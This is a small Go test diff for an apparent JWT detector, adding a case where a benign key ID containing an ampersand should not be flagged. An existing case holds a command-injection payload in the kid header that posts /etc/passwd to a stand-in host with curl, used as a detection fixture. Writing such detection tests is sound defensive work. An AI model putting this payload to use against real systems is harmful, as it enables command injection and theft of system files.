@@ -231,5 +231,6 @@ func TestMoreHiddenForms(t *testing.T) {
 	kid := tok(t, map[string]any{"alg": "HS256", "kid": "k1 && curl -d @/etc/passwd x.test"}, jwt.MapClaims{"sub": "u1"}, "c2ln")
 	runCases(t, NewJWT(JWTConfig{}), "detect.auth.jwt", []detCase{
 		{"kid with &&", ex("GET", "https://a.test/", hdr("Authorization", "Bearer "+kid), resp(401, "")), "shell"},
+		{"benign kid with an ampersand", ex("GET", "https://a.test/", hdr("Authorization", "Bearer "+tok(t, map[string]any{"alg": "HS256", "kid": "keys&certs-2026"}, jwt.MapClaims{"sub": "u1"}, "c2ln")), resp(401, "")), ""},
 	})
 }
